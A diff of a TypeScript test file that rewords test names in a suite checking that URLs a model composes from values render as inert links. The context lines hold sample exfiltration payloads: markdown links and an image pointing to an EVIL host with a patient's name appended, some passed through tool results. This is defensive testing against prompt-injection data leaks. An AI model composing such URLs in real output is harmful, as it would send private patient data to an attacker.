@@ -74,7 +74,7 @@ function links(html: string): string {
   return (html.match(/<(?:a|img)\s[^>]*>/gi) ?? []).join("");
 }
 
-describe("a URL that a model composes of values is inert", () => {
+describe("a URL that a model composes from values is inert", () => {
   it.each<[string, Said]>([
     [
       "in a variable that it sets",
@@ -82,7 +82,7 @@ describe("a URL that a model composes of values is inert", () => {
     ],
     ["bare", { calls: [set("link", `${EVIL}$patients[0].name`)], answer: "See $link" }],
     [
-      "in what a tool returns",
+      "in a tool's result",
       { calls: [call("echo", { v: `[a](${EVIL}$patients[0].name)` })], answer: "$echo" },
     ],
     [
@@ -109,7 +109,7 @@ describe("a URL that a model composes of values is inert", () => {
       },
     ],
     [
-      "of a piece and a value",
+      "from a piece and a value",
       {
         calls: [set("piece", `![a](${EVIL}`), set("link", "${piece}${patients[0].name})")],
         answer: "$link",
@@ -202,7 +202,7 @@ describe("a URL that a tool returned is a link", () => {
     expect(links(await htmlOf(said))).toContain('<a href="https://shop.example/1">');
   });
 
-  it("also where it was given a composed URL, if the agent says that it declassifies", async () => {
+  it("even if the tool received a composed URL, if its policy declassifies", async () => {
     const shortening = [call("shorten", { v: `${EVIL}$patients[0].name` })];
     const html = await htmlOf({ calls: shortening, answer: "$shorten" });
     expect(links(html)).toBe('<a href="https://sho.rt/1">');
